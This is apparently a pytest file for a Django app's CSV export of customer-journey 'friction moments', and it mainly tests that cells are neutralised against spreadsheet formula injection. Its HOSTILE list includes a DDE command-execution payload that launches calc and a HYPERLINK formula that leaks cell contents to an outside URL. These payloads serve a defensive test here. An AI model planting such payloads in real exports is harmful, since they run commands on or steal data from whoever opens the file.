"""The selection as a table: read by Excel and its like, harmless to them, and of any length."""

import csv
import io

import pytest
from django.utils import timezone

from personas.journeys.friction.export import COLUMNS, harmless
from personas.journeys.models import FrictionMoment
from personas.library.models import Insight, Persona

from .moments import a_journey, a_moment, an_answer

CSV = "/friction/csv/"


def rows(response):
    """The table as a spreadsheet reads it: one dict a row."""
    text = b"".join(response).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_it_holds_everything_that_is_known_of_a_moment(as_viewer, workspace, editor):
    a_journey(workspace, "Kitting out", ["Priya"])
    priya = Persona.objects.get()
    pain = Insight.objects.create(persona=priya, kind="pain_point", text="Stock is wrong")
    moment = a_moment(
        workspace,
        "Sold out\nat payment",
        journey="Kitting out",
        score=(4, 5),
        persona=priya,
        pain_point=pain,
        earlier_scores=[{"on": "2026-05-01", "severity": 4, "frequency": 4}],
    )
    an_answer(moment, "Live stock", owner=editor, state="in_progress")
    an_answer(moment, "Dropped", state="dropped")
    assert rows(as_viewer.get(CSV)) == [
        {
            "Score": "20",
            "What goes wrong": "Sold out\nat payment",
            "Stage": "Buy",
            "Touchpoint": "At Web shop",
            "Channel": "Web shop",
            "Journey": "Kitting out",
            "Persona": "Priya",
            "Kind": "Process",
            "Pain point": "Stock is wrong",
            "Severity (1–4)": "4",
            "Frequency (1–5)": "5",
            "Scored on": timezone.localdate().isoformat(),
            "Score before": "16",
            "State": "In progress",
            "Answers": "Live stock",
            "Owners": "Ben",
        }
    ]


def test_it_is_a_file_that_excel_reads_as_utf_8(as_owner, workspace):
    a_moment(workspace, "عائلة 照顾 Lucía")
    response = as_owner.get(CSV)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="friction-northwind-outdoor-{timezone.localdate()}.csv"'
    )
    content = b"".join(response)
    assert content.startswith(b"\xef\xbb\xbfScore,What goes wrong,")
    assert content.endswith(b"\r\n")
    assert "عائلة 照顾 Lucía" in content.decode()


def test_a_workspace_whose_name_no_file_can_bear(as_owner, workspace):
    workspace.name = "家人"
    workspace.save()
    assert "friction-workspace-" in as_owner.get(CSV)["Content-Disposition"]


def test_it_is_the_selection_in_its_order(as_owner, workspace):
    for text, score in [("Minor", (2, 2)), ("Sold out", (4, 5)), ("Sold late", (3, 3))]:
        a_moment(workspace, text, score=score)
    assert [row["What goes wrong"] for row in rows(as_owner.get(CSV, {"q": "sold"}))] == [
        "Sold out",
        "Sold late",
    ]


HOSTILE = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
]


def made_text(hostile):
    """Behind a line break a formula may begin once more."""
    return "'" + hostile.replace("\n=", "\n'=").replace("\r=", "\r'=")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_cell_that_would_be_a_formula_is_made_text(hostile):
    assert harmless(hostile) == made_text(hostile)


@pytest.mark.parametrize("plain", ["In stock = sold out", "3", 20, "", "a-b", "'quoted", "–2 degrees"])
def test_other_cells_are_left_as_they_are(plain):
    assert harmless(plain) == str(plain)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_cell_of_the_file_is_a_formula_wherever_it_was_written(as_owner, workspace, owner, hostile):
    owner.name = hostile
    owner.save()
    persona = Persona.objects.create(workspace=workspace, name=hostile)
    pain = Insight.objects.create(persona=persona, kind="pain_point", text=hostile)
    moment = a_moment(workspace, hostile, f"{hostile} · {hostile}", hostile, persona=persona, pain_point=pain)
    an_answer(moment, hostile, owner=owner)
    (row,) = rows(as_owner.get(CSV))
    dangerous = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")
    assert not {name: cell for name, cell in row.items() if cell.lstrip(" \u00a0").startswith(dangerous)}
    assert row["What goes wrong"] == made_text(hostile)


INNER = [
    "Sold out;=1+1",
    "Sold out; =1+1",
    'Sold;"=1+1"',
    "Sold\n=1+1",
    "Sold\r\n-1+1",
    "a;;=1+1",
    "a\n;\n@b",
]


@pytest.mark.parametrize("hostile", INNER)
def test_nor_is_one_where_a_spreadsheet_takes_the_file_apart_at_semicolons(as_owner, workspace, hostile):
    an_answer(a_moment(workspace, hostile, f"{hostile} · {hostile}", hostile), hostile)
    text = b"".join(as_owner.get(CSV)).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]
    assert not [cell for cell in cells if cell.lstrip(' "').startswith(("=", "+", "-", "@"))]


def test_a_cell_keeps_quotes_commas_and_line_breaks_together(as_owner, workspace):
    text = "He said \"no\", then,\r\nleft; 'really'"
    a_moment(workspace, text)
    assert rows(as_owner.get(CSV))[0]["What goes wrong"] == text


def test_nothing_selected_is_the_header_alone(as_owner, workspace):
    response = as_owner.get(CSV)
    assert b"".join(response).decode("utf-8-sig") == ",".join(COLUMNS) + "\r\n"


def test_an_outsider_takes_along_nothing_of_ours(as_outsider, workspace):
    a_moment(workspace, "Sold out")
    assert rows(as_outsider.get(CSV)) == []


def test_thousands_of_moments_come_piece_by_piece_in_few_queries(
    as_owner, workspace, owner, django_assert_max_num_queries
):
    first = a_moment(workspace, "Moment", persona=Persona.objects.create(workspace=workspace, name="Priya"))
    FrictionMoment.objects.bulk_create(
        FrictionMoment(touchpoint=first.touchpoint, text=f"Moment {n}", persona=first.persona)
        for n in range(1, 1200)
    )
    an_answer(first, owner=owner)
    response = as_owner.get(CSV)
    assert response.streaming
    with django_assert_max_num_queries(15):
        pieces = list(response)
    assert len(pieces) == 1201
